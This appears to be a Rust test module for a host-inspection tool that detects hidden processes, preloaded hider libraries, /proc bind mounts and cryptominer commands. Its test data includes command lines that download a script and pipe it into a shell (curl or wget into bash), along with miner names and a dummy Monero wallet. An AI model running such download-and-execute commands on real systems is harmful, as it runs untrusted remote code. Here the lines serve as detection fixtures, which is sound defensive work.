    #[test]
    fn hider_child() {
        let Some(pid) = std::env::var("MW_HIDER_CHILD")
            .ok()
            .and_then(|p| p.parse::<i32>().ok())
        else {
            return;
        };
        let proc = Path::new("/proc");
        let rd = list_pids_readdir(proc).expect("readdir");
        let raw = list_pids_raw(proc).expect("getdents64");
        let brute = brute_force_pids(proc);
        assert!(!rd.contains(&pid), "readdir is hooked in this process");
        assert!(raw.contains(&pid), "getdents64 sees it");
        assert!(brute.contains(&pid), "brute force sees it");
        let hidden = hidden_pids(&raw, &rd, &brute);
        let h = hidden
            .iter()
            .find(|h| h.pid == pid)
            .expect("reported hidden");
        assert_eq!(h.missing_from, [READDIR]);
        assert_eq!(h.seen_by, [GETDENTS, BRUTE]);

        let (facts, _) = observe_host(Path::new("/"), proc);
        assert!(
            facts.hidden_pids.iter().any(|h| h.pid == pid),
            "{:?}",
            facts.hidden_pids
        );
        assert!(
            facts
                .self_preloaded
                .iter()
                .any(|l| l.ends_with("/hider.so")),
            "{:?}",
            facts.self_preloaded
        );
        println!("MW_HIDER_CHILD_OK");
    }

    #[test]
    fn bind_mount_over_proc_pid() {
        let kid = Kid::sleep();
        let pid = kid.pid();
        let empty = tempfile::tempdir().expect("tempdir");
        let target = CString::new(format!("/proc/{pid}")).expect("path");
        let source = CString::new(empty.path().as_os_str().as_bytes()).expect("path");
        // SAFETY: NUL-terminated paths; a plain bind mount.
        let r = unsafe {
            libc::mount(
                source.as_ptr(),
                target.as_ptr(),
                std::ptr::null(),
                libc::MS_BIND,
                std::ptr::null(),
            )
        };
        assert_eq!(r, 0, "mount --bind: {}", io::Error::last_os_error());
        let _mounted = Mounted(target);

        let proc = Path::new("/proc");
        let fx = fixture();
        let (facts, _) = observe_host(&fx.root, proc);
        assert!(
            facts.proc_pid_mounts.contains(&format!("/proc/{pid}")),
            "{:?}",
            facts.proc_pid_mounts
        );
        // What the bind mount hides: the contents, not the directory entry.
        assert!(list_pids_raw(proc).expect("getdents64").contains(&pid));
        assert!(list_pids_readdir(proc).expect("readdir").contains(&pid));
        assert!(brute_force_pids(proc).contains(&pid));
        assert!(!facts.hidden_pids.iter().any(|h| h.pid == pid));
        assert!(
            std::fs::metadata(format!("/proc/{pid}/status")).is_err(),
            "status is hidden"
        );
        assert_eq!(
            std::fs::read_dir(format!("/proc/{pid}"))
                .expect("dir")
                .count(),
            0
        );
    }

    #[test]
    fn real_host_observes_cleanly() {
        let started = Instant::now();
        let (facts, gaps) = observe_host(Path::new("/"), Path::new("/proc"));
        eprintln!("observe_host(/, /proc) in {:?}", started.elapsed());
        eprintln!(
            "{}",
            serde_json::to_string_pretty(&facts).unwrap_or_default()
        );
        eprintln!("gaps: {gaps:?}");
        assert!(facts.hugepages.size_kib > 0);
        let round: HostFacts =
            serde_json::from_str(&serde_json::to_string(&facts).expect("json")).expect("json");
        assert_eq!(round, facts);
    }

    // ---- pure helpers ----------------------------------------------------

    #[test]
    fn parses_mountinfo() {
        let text = "22 27 0:21 / /proc rw,relatime shared:12 - proc proc rw,hidepid=invisible\n\
                    90 22 254:1 /tmp/e /proc/4242 rw,relatime shared:1 - ext4 /dev/vda rw\n\
                    91 22 254:1 /tmp/e /proc/77/cmdline rw - ext4 /dev/vda rw\n\
                    92 27 254:1 / /mnt/my\\040disk rw - ext4 /dev/vdb rw\n\
                    93 27 0:50 / /proc/sys/fs/binfmt_misc rw - binfmt_misc binfmt_misc rw\n";
        let (mounts, hidepid, covered) = parse_mountinfo(text, "/proc");
        assert_eq!(mounts, ["/proc/4242", "/proc/77/cmdline"]);
        assert_eq!(hidepid.as_deref(), Some("invisible"));
        assert_eq!(covered, None);
        let over = format!("{text}94 27 0:60 / /proc rw - tmpfs tmpfs rw\n");
        assert_eq!(parse_mountinfo(&over, "/proc").2.as_deref(), Some("tmpfs"));
        assert_eq!(unescape_mount("/mnt/my\\040disk"), "/mnt/my disk");
    }

    #[test]
    fn judges_our_own_libraries() {
        let maps = "55d0-55e0 r-xp 00000000 fe:01 12 /usr/bin/minerwatch\n\
                    7f00-7f10 r-xp 00000000 fe:01 13 /usr/lib/x86_64-linux-gnu/libc.so.6\n\
                    7f10-7f20 r--p 00000000 fe:01 14 /usr/lib/locale/locale-archive\n\
                    7f20-7f30 r-xp 00000000 fe:01 15 /usr/lib/x86_64-linux-gnu/libgcc_s.so.1\n\
                    7f30-7f40 r-xp 00000000 fe:01 16 /usr/local/lib/libprocesshider.so\n\
                    7f40-7f50 r-xp 00000000 fe:01 17 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n\
                    7f50-7f60 r-xp 00000000 fe:01 18 /usr/lib/x86_64-linux-gnu/libevil.so\n\
                    7f60-7f70 r-xp 00000000 fe:01 19 /usr/lib/x86_64-linux-gnu/gconv/UTF-16.so\n\
                    7f70-7f80 r-xp 00000000 fe:01 20 /usr/lib/x86_64-linux-gnu/libm.so.6 (deleted)\n\
                    7f80-7f90 r-xp 00000000 00:00 0 [vdso]\n\
                    7f90-7fa0 rwxp 00000000 00:01 21 /memfd:x (deleted)\n";
        let got = preloaded_from_maps(
            maps,
            Some("/usr/bin/minerwatch"),
            &["libjemalloc.so.2".into()],
            &[],
        );
        assert_eq!(
            got,
            [
                "/usr/local/lib/libprocesshider.so",
                "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
                "/usr/lib/x86_64-linux-gnu/libevil.so",
                "/memfd:x (deleted)",
            ]
        );
    }

    #[test]
    fn parses_commands() {
        let cases: &[(&str, &[&str])] = &[
            ("nohup /tmp/x >/dev/null 2>&1 &", &["/tmp/x", "1"][..1]),
            (
                "sudo -u www-data nice -n 19 /dev/shm/a -c x",
                &["/dev/shm/a"],
            ),
            ("/bin/sh -c 'cd /var/tmp && ./.m -B'", &["/var/tmp/.m"]),
            ("bash /root/.x/run.sh", &["/root/.x/run.sh"]),
            ("python3 -c 'import os'", &["python3"]),
            (
                "FOO=1 env BAR=2 timeout 10 /usr/bin/true; exit 0",
                &["/usr/bin/true", "exit"],
            ),
            (
                "(curl -s http://a || wget -qO- http://a) | bash",
                &["curl", "wget", "bash"],
            ),
        ];
        for (cmd, want) in cases {
            assert_eq!(programs(cmd), *want, "{cmd}");
        }
        assert_eq!(
            analyze_command("sh -c \"$(curl -fsSL http://x/i.sh)\"", "").0,
            ["downloads and pipes into a shell"]
        );
        assert_eq!(
            analyze_command("bash <(wget -qO- http://x)", "").0,
            ["downloads and pipes into a shell"]
        );
        assert_eq!(
            miner_names_in("/opt/xmrig-6.21/xmrig systemd-sysupdate KINSING .kdevtmpfsi"),
            ["xmrig", "kinsing", "kdevtmpfsi"]
        );
        assert!(
            analyze_command("curl -o /tmp/f http://host:8080/f -u u:p", "curl -o /tmp/f")
                .0
                .is_empty()
        );
        let wallet = format!("-u 4{}", "A".repeat(94));
        assert!(has(
            &analyze_command(&wallet, "").0,
            "has a Monero wallet address"
        ));
        assert_eq!(
            resolve_link("etc/sysctl.d/99-sysctl.conf", "../sysctl.conf"),
            "/etc/sysctl.conf"
        );
        assert_eq!(resolve_link("etc/x/y", "/usr/lib/z"), "/usr/lib/z");
        assert_eq!(
            cap_text(&format!("a\x1b[2Jb{}", "x".repeat(400)))
                .chars()
                .count(),
            300
        );
        assert!(cap_text("a\x1b[2J").starts_with("a\u{FFFD}"));
    }
}
